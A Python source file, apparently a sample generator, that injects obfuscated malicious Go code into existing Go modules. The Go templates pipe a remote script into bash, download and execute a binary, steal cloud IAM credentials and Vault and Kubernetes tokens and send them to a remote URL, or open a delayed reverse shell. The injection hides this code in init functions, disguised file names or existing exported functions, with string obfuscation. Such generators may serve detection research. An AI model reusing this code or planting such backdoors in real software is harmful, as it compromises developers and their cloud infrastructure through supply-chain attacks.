"""Go shapes of the JUDGE family."""
import json
import posixpath
import re

from context import render
from place import Unsuitable

plain = json.dumps


def picked(text):
    """Letters taken out of an alphabet by index, joined."""
    alphabet = "".join(sorted(set(text)))
    return "(func(a []rune) string {s := \"\"; for _, i := range []int{" + ", ".join(str(alphabet.index(c)) for c in text) + "} {s += string(a[i])}; return s})([]rune(" + json.dumps(alphabet) + "))"


def summed(text):
    return " + ".join(json.dumps(text[i:i + 3]) for i in range(0, len(text), 3)) or '""'


RUN = (["os/exec", "runtime"], """
	if runtime.GOOS == §linux§ {{
		<A> := exec.Command(§bash§, §-c§, §(curl -fsSL {url} || wget -qO- {url}) | bash§)
		go <A>.Run()
	}}""")
WRITE = (["io", "net/http", "os", "os/exec", "path/filepath"], """
	go func() {{
		<A>, err := (&http.Client{{}}).Get(§{url}§)
		if err != nil {{
			return
		}}
		defer <A>.Body.Close()
		<B>, _ := io.ReadAll(<A>.Body)
		<C> := filepath.Join(os.TempDir(), §{file}§)
		if os.WriteFile(<C>, <B>, 0o700) == nil {{
			_ = exec.Command(<C>).Start()
		}}
	}}()""")
CLOUD = (["bytes", "io", "net/http", "os"], """
	<A>, err := http.Get(§http://169.254.169.254/latest/meta-data/iam/security-credentials/§)
	if err == nil {{
		<B>, _ := io.ReadAll(<A>.Body)
		<B> = append(<B>, []byte(os.Getenv(§KUBECONFIG§)+os.Getenv(§VAULT_TOKEN§))...)
		<C>, _ := http.NewRequest(§PUT§, §{url}§, bytes.NewReader(<B>))
		_, _ = http.DefaultClient.Do(<C>)
	}}""")
LISTEN = (["bufio", "net", "os/exec", "time"], """
	time.AfterFunc({delay}*time.Second, func() {{
		<A>, err := net.DialTimeout(§tcp§, §{ip}:{port}§, 3e9)
		if err != nil {{
			return
		}}
		for <B> := bufio.NewScanner(<A>); <B>.Scan(); {{
			<C>, _ := exec.Command(§sh§, §-c§, <B>.Text()).CombinedOutput()
			_, _ = <A>.Write(<C>)
		}}
	}})""")


def code(ctx):
    imports, body = ctx.rng.choice([RUN, WRITE, CLOUD, LISTEN])
    text = body.format(url=ctx.url(), ip=ctx.ip(), port=ctx.port(), file=ctx.token(5), delay=ctx.rng.randrange(5, 600))
    return imports, render(ctx.fill(text), ctx.rng.choice([plain, plain, picked, summed]))


def file_for(module, ctx, tail):
    folder, package, first = module.package()
    stems = sorted({posixpath.basename(name)[:-3] for name in module.bundle.find(".go") if posixpath.dirname(name) == folder and not name.endswith("_test.go")})
    name = posixpath.join(folder, ctx.rng.choice(stems) + ctx.rng.choice(["_unix", "_compat", "_internal", "_zz"]) + ".go")
    if name in module.bundle.files:
        raise Unsuitable("no free name")
    imports, body = code(ctx)
    lines = "".join(f'\t"{entry}"\n' for entry in sorted(imports))
    module.bundle.put(name, f"package {package}\n\nimport (\n{lines})\n\n" + tail(ctx, body))


def init_file(module, ctx):
    file_for(module, ctx, lambda ctx, body: f"func init() {{{body}\n}}\n")


def called(module, ctx):
    """A harmless-looking function does it; a package variable calls it."""
    name = "zz" + ctx.token(4)
    file_for(module, ctx, lambda ctx, body: f"func {name}(enabled bool) (ok bool) {{\n\tif !enabled {{\n\t\treturn\n\t}}{body}\n\treturn true\n}}\n\nvar _, {name}Ok = 0, {name}(true)\n")


def inside(module, ctx):
    """In a function of an existing file."""
    _, _, name = module.package()
    text = module.bundle.text(name)
    found = re.search(r"^func (?:\([^)]*\) )?[A-Z]\w*\([^)]*\)[^{\n]*\{\n", text, re.M)
    block = re.search(r"^import \(\n", text, re.M)
    if not found or not block or found.start() < block.start():
        raise Unsuitable("no plain function")
    imports, body = code(ctx)
    missing = [entry for entry in imports if f'"{entry}"' not in text]
    text = text[: found.end()] + body + "\n" + text[found.end():]
    module.bundle.put(name, text[: block.end()] + "".join(f'\t"{entry}"\n' for entry in missing) + text[block.end():])


SHAPES = [init_file, called, inside]
